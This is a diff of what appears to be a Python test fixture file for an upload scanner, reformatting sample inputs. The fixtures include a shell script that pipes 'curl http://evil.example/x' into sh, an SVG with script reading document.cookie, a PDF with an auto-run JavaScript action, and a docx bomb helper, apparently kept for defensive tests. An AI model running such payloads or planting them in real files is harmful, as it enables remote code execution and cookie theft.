@@ -21,9 +21,7 @@ PDF_WITH_SCRIPT = PDF.replace(
     b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert('x'))>>"
 )
 SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
-SVG_WITH_SCRIPT = (
-    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
-)
+SVG_WITH_SCRIPT = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
 HTML = b"<!doctype html><html><script>fetch('/api/v1/me/')</script></html>"
 
 
@@ -36,7 +34,9 @@ def zipped(members: list[tuple[str, bytes | str]]) -> bytes:
 
 
 def docx() -> bytes:
-    return zipped([("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document>Báo cáo</w:document>")])
+    return zipped(
+        [("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document>Báo cáo</w:document>")]
+    )
 
 
 def docx_bomb() -> bytes:
